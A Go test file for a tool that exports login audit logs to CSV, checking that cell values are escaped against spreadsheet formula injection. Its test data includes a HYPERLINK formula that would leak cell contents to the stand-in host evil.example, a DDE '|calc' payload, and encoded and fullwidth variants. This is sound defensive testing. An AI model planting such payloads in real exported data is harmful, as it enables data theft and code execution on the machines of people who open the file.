package main

import (
	"bytes"
	"context"
	"errors"
	"testing"
	"time"

	"github.com/riskcloud-go/riskcloud"
	"github.com/riskcloud-go/riskcloud/riskcloudtest"
	"go.uber.org/goleak"
)

func TestMain(m *testing.M) {
	goleak.VerifyTestMain(m)
}

func TestRun(t *testing.T) {
	t.Parallel()
	since := time.Date(2026, 11, 25, 9, 0, 0, 0, time.UTC)
	login := func(d time.Duration, addr, msg string) riskcloud.Entry {
		return riskcloud.Entry{Type: riskcloud.Login, Timestamp: since.Add(d), RemoteAddress: addr, Message: msg}
	}
	srv := riskcloudtest.NewServer()
	t.Cleanup(srv.Close)
	srv.Add(
		login(41*time.Minute, "192.0.2.10", ""),
		login(40*time.Minute+123*time.Millisecond, `=HYPERLINK("http://evil.example/?"&A1,"help")`, ""),
		login(39*time.Minute, "+1-555-0100", "-2+3"),
		login(38*time.Minute, "@SUM(A1:A9)", "\tindented"),
		login(37*time.Minute, "\r=1+1", "said \"hi\", then left"),
		riskcloud.Entry{Type: riskcloud.LoginFail, Timestamp: since.Add(36 * time.Minute), RemoteAddress: "203.0.113.7", Message: "Bad credentials"},
		login(0, "2001:db8::1", ""),
		login(-time.Millisecond, "192.0.2.99", ""), // before since: not exported
	)

	var out bytes.Buffer
	if err := run(context.Background(), srv.Client(), &out, since); err != nil {
		t.Fatal(err)
	}
	want := "timestamp,remote_address,type,message\n" +
		"2026-11-25T09:41:00.000Z,192.0.2.10,Login,\n" +
		`2026-11-25T09:40:00.123Z,"'=HYPERLINK(""http://evil.example/?""&A1,""help"")",Login,` + "\n" +
		"2026-11-25T09:39:00.000Z,'+1-555-0100,Login,'-2+3\n" +
		"2026-11-25T09:38:00.000Z,'@SUM(A1:A9),Login,'\tindented\n" +
		"2026-11-25T09:37:00.000Z,\"'\r=1+1\",Login,\"said \"\"hi\"\", then left\"\n" +
		"2026-11-25T09:00:00.000Z,2001:db8::1,Login,\n"
	if got := out.String(); got != want {
		t.Errorf("output:\n%q\nwant:\n%q", got, want)
	}
}

func TestRun_forbidden(t *testing.T) {
	t.Parallel()
	srv := riskcloudtest.NewServer(riskcloudtest.WithoutAdmin())
	t.Cleanup(srv.Close)

	err := run(context.Background(), srv.Client(), &bytes.Buffer{}, time.Time{})
	if !errors.Is(err, riskcloud.ErrForbidden) {
		t.Errorf("err = %v, want ErrForbidden", err)
	}
}

// TestCell has the table of TestNeutralizeFormula in
// cmd/riskcloud-audit/output_test.go; keep them the same.
func TestCell(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{"", ""},
		{"Bad credentials", "Bad credentials"},
		{"198.51.100.7", "198.51.100.7"},
		{"2001:db8::1", "2001:db8::1"},
		{"=1+1", "'=1+1"},
		{"+1", "'+1"},
		{"-1", "'-1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"\t", "'\t"},
		{"\rplain", "'\rplain"},
		{"a=1", "a=1"},
		{"'=1", "'=1"},
		// What a spreadsheet skips before a formula.
		{" =1+1", "' =1+1"},
		{"  \v\f-1", "'  \v\f-1"},
		{"\n=1+1", "'\n=1+1"},
		{"\x00=1+1", "'\x00=1+1"},
		{"\u00a0=1+1", "'\u00a0=1+1"},
		{"\u0085=1+1", "'\u0085=1+1"},
		{"\u3000+1", "'\u3000+1"},
		{"\ufeff=1+1", "'\ufeff=1+1"},
		{"\ufeff \x00\n@x", "'\ufeff \x00\n@x"},
		// DDE and URL-encoded payloads.
		{"|calc", "'|calc"},
		{"%0A", "'%0A"},
		{" |calc", "' |calc"},
		// Fullwidth forms.
		{"\uff1d1+1", "'\uff1d1+1"},
		{"\uff0b", "'\uff0b"},
		{"\uff0d", "'\uff0d"},
		{"\uff20", "'\uff20"},
		{"\u00a0\uff1d1", "'\u00a0\uff1d1"},
		// Not formulas.
		{" ", " "},
		{"\n", "\n"},
		{"\x00", "\x00"},
		{" Bad credentials", " Bad credentials"},
		{"\ufeffBad credentials", "\ufeffBad credentials"},
		{"\xff=1", "\xff=1"},
		{"\u200b=1", "\u200b=1"}, // a zero-width space is not white space
		{"1|2", "1|2"},
		{"50%", "50%"},
	}
	for _, tt := range tests {
		if got := cell(tt.in); got != tt.want {
			t.Errorf("cell(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// TestRealMain_errorAfterCleanup checks that a failing run returns its
// error, rather than exiting before the deferred calls (the demo server's
// Close among them) run: goleak, in TestMain, fails the package if the
// server's goroutines outlive the test. Not parallel: it sets the
// environment.
func TestRealMain_errorAfterCleanup(t *testing.T) {
	t.Setenv("RISKCLOUD_URL", "") // the demo
	if err := realMain(failingWriter{}); !errors.Is(err, errDiskFull) {
		t.Errorf("realMain = %v, want %v", err, errDiskFull)
	}
}

var errDiskFull = errors.New("disk full")

type failingWriter struct{}

func (failingWriter) Write([]byte) (int, error) { return 0, errDiskFull }
